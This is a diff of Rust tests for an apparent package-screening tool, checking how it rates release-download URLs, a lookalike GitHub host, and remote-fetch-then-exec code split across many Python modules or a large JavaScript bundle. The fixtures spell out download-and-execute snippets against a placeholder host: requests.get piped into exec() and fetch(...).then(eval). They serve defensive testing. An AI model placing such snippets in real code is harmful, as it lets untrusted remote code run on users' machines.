@@ -24,13 +24,15 @@ fn fetched_and_run(url: &str) -> Vec<u8> {
 }
 
 #[test]
-fn a_release_is_milder_only_if_it_is_the_projects_own_and_a_file() {
+fn a_release_is_milder_only_where_the_project_is_at_home_and_if_it_is_a_file() {
     let of = |url: &str| {
         let script = fetched_and_run(url);
         screened(&[("package.json", REPOSITORY.as_bytes()), ("get.js", &script)]).verdict
     };
     assert_eq!(of("https://github.com/acme/bot/releases/download/v1/engine"), Verdict::Review);
-    assert_eq!(of("https://github.com/other/bot/releases/download/v1/engine"), Verdict::Block);
+    assert_eq!(of("https://github.com/other/bot/releases/download/v1/engine"), Verdict::Review);
+    assert_eq!(of("https://github.com/other/bot/raw/main/engine"), Verdict::Block);
+    assert_eq!(of("https://gitlab.com/acme/bot/releases/download/v1/engine"), Verdict::Block);
     assert_eq!(
         of("https://github.com.evil.invalid/acme/bot/releases/download/v1/engine"),
         Verdict::Block
@@ -127,4 +129,52 @@ fn a_fixed_program_that_runs_its_words_does_not_hide_what_it_is_given() {
     // What such a program prints, or a file that it reads, is its own matter.
     assert_eq!(of("'say', x"), Verdict::NoFindings);
     assert_eq!(of("'python3', 'tools/show.py', x"), Verdict::NoFindings);
+}
+
+/// A tree of as many modules as make a large one, and some more.
+fn among_many(files: &[(&str, &str)]) -> screen::Outcome {
+    let many: Vec<(String, Vec<u8>)> = (0..160)
+        .map(|n| (format!("pkg/m{n}.py"), format!("def f{n}(x):\n    return x\n").into_bytes()))
+        .collect();
+    let all: Vec<(&str, &[u8])> = many
+        .iter()
+        .map(|(p, b)| (p.as_str(), b.as_slice()))
+        .chain(files.iter().map(|(p, b)| (*p, b.as_bytes())))
+        .collect();
+    screened(&all)
+}
+
+#[test]
+fn among_many_modules_a_way_counts_that_goes_along_imports() {
+    let fetch = (
+        "pkg/a.py",
+        "import requests\ndef load():\n    return requests.get('https://a.invalid/x').text\n",
+    );
+    let run = ("pkg/b.py", "def run(code):\n    exec(code)\n");
+    let along = ("pkg/c.py", "from pkg.a import load\nfrom pkg.b import run\nrun(load())\n");
+    assert_eq!(among_many(&[fetch, run, along]).verdict, Verdict::Block);
+    // What both share, and neither says: it is told, and is never "no findings".
+    let put = (
+        "pkg/a.py",
+        "import builtins, requests\nbuiltins.x = requests.get('https://a.invalid/x').text\n",
+    );
+    let take = ("pkg/b.py", "import builtins\nexec(builtins.x)\n");
+    let outcome = among_many(&[put, take]);
+    assert_eq!(outcome.verdict, Verdict::Incomplete);
+    assert!(outcome.findings.iter().any(|f| f.rule.id == "network-to-interpreter"));
+    assert!(outcome.missed.iter().any(|m| m.file == "pkg/b.py"));
+    // In a few modules the same blocks.
+    let few = screened(&[(put.0, put.1.as_bytes()), (take.0, take.1.as_bytes())]);
+    assert_eq!(few.verdict, Verdict::Block);
+}
+
+#[test]
+fn in_a_bundle_what_stands_together_counts() {
+    let filler: String = (0..1_600).map(|n| format!("function f{n}(x) {{ return x }}\n")).collect();
+    let near = format!("{filler}fetch('https://a.invalid/x').then(r => r.text()).then(eval);\n");
+    let far = format!(
+        "let p;\nfetch('https://a.invalid/x').then(r => r.text()).then(t => {{ p = t }});\n{filler}eval(p);\n"
+    );
+    assert_eq!(screened(&[("dist/bundle.js", near.as_bytes())]).verdict, Verdict::Block);
+    assert_eq!(screened(&[("dist/bundle.js", far.as_bytes())]).verdict, Verdict::Review);
 }
